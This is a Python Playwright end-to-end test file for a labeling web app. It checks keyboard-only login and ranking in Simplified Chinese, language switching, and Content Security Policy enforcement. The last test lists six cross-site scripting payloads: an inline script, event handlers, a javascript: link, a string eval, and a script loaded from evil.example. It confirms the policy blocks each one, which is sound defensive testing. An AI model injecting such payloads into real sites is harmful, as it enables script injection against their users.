"""A whole loop in Chinese by the keyboard alone: choose the language, log in, rank; and what the policy refuses."""

from typing import Any

import pytest
from playwright.sync_api import Page, expect

from hone.accounts.models import Project, User
from labeling.models import Ranking, Slot
from tests import factories
from tests.e2e.conftest import Problems
from tests.e2e.steps import PASSWORD, OpenPage, indexes

pytestmark = pytest.mark.browser


def tab_to(page: Page, name: str) -> None:
    """Presses Tab until something with this name has the focus."""
    for _ in range(40):
        page.keyboard.press("Tab")
        said = page.evaluate(
            "() => { const at = document.activeElement;"
            " return at.getAttribute('aria-label') || at.labels?.[0]?.textContent || at.textContent; }"
        )
        if said.strip().startswith(name):
            return
    raise AssertionError(f"Tab never reaches {name}")


def test_the_whole_way_by_keyboard(open_page: OpenPage, project: Project, contractor: User) -> None:
    factories.make_batch(project, answers=3)
    page = open_page(locale="en-US")
    page.goto("/p/alpha/rank/")
    tab_to(page, "简体中文")
    page.keyboard.press("Enter")
    expect(page.get_by_role("heading", level=1)).to_have_text("登录")
    expect(page.locator("html")).to_have_attribute("lang", "zh-hans")
    tab_to(page, "用户名")
    page.keyboard.type("contractor")
    page.keyboard.press("Tab")
    page.keyboard.type(PASSWORD)
    page.keyboard.press("Enter")
    expect(page.locator("[data-status]")).to_have_text("尚待放置：A、B、C")
    for key in ("b", "1", "a", "2", "c", "x"):
        page.keyboard.press(key)
    expect(page.locator("[data-status]")).to_have_text("排序：B > A · 不可接受：C")
    expect(page.locator(".saved")).to_contain_text("前已保存")
    page.keyboard.press("Control+Enter")
    expect(page.get_by_role("heading", level=1)).to_have_text("目前没有待排序的条目")
    slot = Slot.objects.get(state="submitted")
    row = Ranking.objects.get(slot=slot)
    assert (row.tiers, row.unacceptable) == ([indexes(slot, "B"), indexes(slot, "A")], indexes(slot, "C"))
    contractor.refresh_from_db()
    assert contractor.language == ""  # chosen before the log-in: for this browser


def test_the_language_is_changed_in_the_menu_by_keyboard(
    open_page: OpenPage, project: Project, contractor: User
) -> None:
    page = open_page(contractor, locale="en-US")
    page.goto("/p/alpha/me/")
    tab_to(page, "Menu of contractor")
    page.keyboard.press("Enter")
    tab_to(page, "简体中文")
    page.keyboard.press("Space")
    expect(page).to_have_url("/p/alpha/me/")
    expect(page.get_by_role("heading", level=1)).to_have_text("我的工作")
    contractor.refresh_from_db()
    assert contractor.language == "zh-hans"
    page.get_by_label("contractor 的菜单").click()
    expect(page.get_by_role("button", name="简体中文")).to_have_attribute("aria-pressed", "true")


def test_the_language_can_be_chosen_without_javascript(open_page: OpenPage) -> None:
    page = open_page(locale="zh-CN", java_script_enabled=False)
    page.goto("/login/")
    expect(page.get_by_role("heading", level=1)).to_have_text("登录")
    page.get_by_role("button", name="English").click()
    expect(page.get_by_role("heading", level=1)).to_have_text("Log in")


@pytest.mark.parametrize(
    "attack",
    [
        "const s = document.createElement('script'); s.textContent = 'window.hacked = 1'; document.body.append(s)",
        "document.body.insertAdjacentHTML('beforeend', '<img src=/x onerror=\"window.hacked = 1\">')",
        "document.body.insertAdjacentHTML('beforeend', '<button id=b onclick=\"window.hacked = 1\">'); b.click()",
        "document.body.insertAdjacentHTML('beforeend', '<a id=b href=\"javascript:hacked = 1\">x</a>'); b.click()",
        "setTimeout('window.hacked = 1')",
        "const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.body.append(s)",
    ],
    ids=["inline script", "handler", "clicked handler", "javascript address", "eval", "another host"],
)
def test_the_policy_refuses_what_is_injected(
    open_page: OpenPage, project: Project, contractor: User, problems: Problems, attack: str
) -> None:
    problems.expect("Content Security Policy", "404 (", "another host: https://evil.example", "failed: csp")
    factories.make_batch(project)
    page = open_page(contractor)
    refused: list[Any] = []
    page.expose_function("refused", lambda directive: refused.append(directive))
    page.goto("/p/alpha/rank/")
    page.evaluate("document.addEventListener('securitypolicyviolation', (event) => refused(event.effectiveDirective))")
    page.evaluate(f"() => {{ {attack} }}")
    page.wait_for_timeout(300)
    assert page.evaluate("window.hacked") is None
    assert refused and refused[0].startswith("script-src")
